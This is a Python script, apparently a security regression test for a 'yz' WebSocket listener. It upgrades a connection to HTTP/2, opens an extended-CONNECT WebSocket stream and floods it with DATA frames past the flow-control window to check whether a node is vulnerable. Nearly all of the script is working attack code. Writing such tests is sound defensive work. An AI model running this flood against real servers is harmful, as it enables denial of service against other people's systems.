#!/usr/bin/python3
"""h2_attack.py: play the HTTP/2 attacker against a yz ws:// listener.

An HTTP/1.1 request with "Upgrade: h2c" (or, with --prior, the HTTP/2
connection preface straight away), then an RFC 8441 extended CONNECT that
opens a WebSocket stream with the yz subprotocol, then DATA frames past the
stream's flow-control window. A node that speaks HTTP/2 at all is
vulnerable; a fixed node refuses at the first step. Needs python3-h2's
hyperframe and hpack (Debian: python3-h2). Loopback use only.

Usage: h2_attack.py HOST PORT [--prior] [--rounds N]
Prints one line per round: what the server answered.
"""
import socket
import sys

from hpack import Encoder
from hyperframe.frame import DataFrame, HeadersFrame, SettingsFrame

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def recv_some(s, timeout=2.0):
    s.settimeout(timeout)
    try:
        return s.recv(65536)
    except (socket.timeout, ConnectionError):
        return b""


def one_round(host, port, prior):
    s = socket.create_connection((host, port), timeout=5)
    try:
        if not prior:
            s.sendall(b"GET / HTTP/1.1\r\nHost: " + host.encode() +
                      b"\r\nConnection: Upgrade, HTTP2-Settings\r\n"
                      b"Upgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n"
                      b"\r\n")
            r = recv_some(s)
            if not r.startswith(b"HTTP/1.1 101"):
                return "refused h2c: %r" % (r.split(b"\r\n")[0] if r else
                                             b"(closed, no answer)")
        s.sendall(PREFACE + SettingsFrame(0).serialize())
        r = recv_some(s)
        if not r:
            return "no HTTP/2 from the server (closed, no answer)"
        if not r.startswith(b"\x00") and not r[3:4] == b"\x04":
            if r.startswith(b"HTTP/"):
                return "no HTTP/2 from the server: %r" % r.split(b"\r\n")[0]
        s.sendall(SettingsFrame(0, flags=["ACK"]).serialize())
        enc = Encoder()
        hdr = enc.encode([(":method", "CONNECT"), (":protocol", "websocket"),
                          (":scheme", "http"), (":path", "/"),
                          (":authority", host),
                          ("sec-websocket-protocol", "yz.link.v1"),
                          ("sec-websocket-version", "13")])
        sid = 1 if prior else 3
        s.sendall(HeadersFrame(sid, hdr, flags=["END_HEADERS"]).serialize())
        r = recv_some(s, 1.0)
        # past the stream's flow-control window (65535 by default)
        # masked WebSocket frames of 4 KiB, 64 of them (256 KiB)
        chunk = b"\x82\xfe\x10\x00\x00\x00\x00\x00" + b"A" * 4096
        for _ in range(64):
            s.sendall(DataFrame(sid, chunk).serialize())
        r = recv_some(s, 1.0)
        return "h2 stream opened and flooded (server answered %d bytes)" % (
            len(r))
    except (ConnectionError, OSError) as e:
        return "connection ended: %s" % e
    finally:
        s.close()


def main():
    host, port = sys.argv[1], int(sys.argv[2])
    prior = "--prior" in sys.argv
    rounds = 1
    if "--rounds" in sys.argv:
        rounds = int(sys.argv[sys.argv.index("--rounds") + 1])
    for i in range(min(rounds, 100)):
        print("round %d: %s" % (i + 1, one_round(host, port, prior)),
              flush=True)


if __name__ == "__main__":
    main()
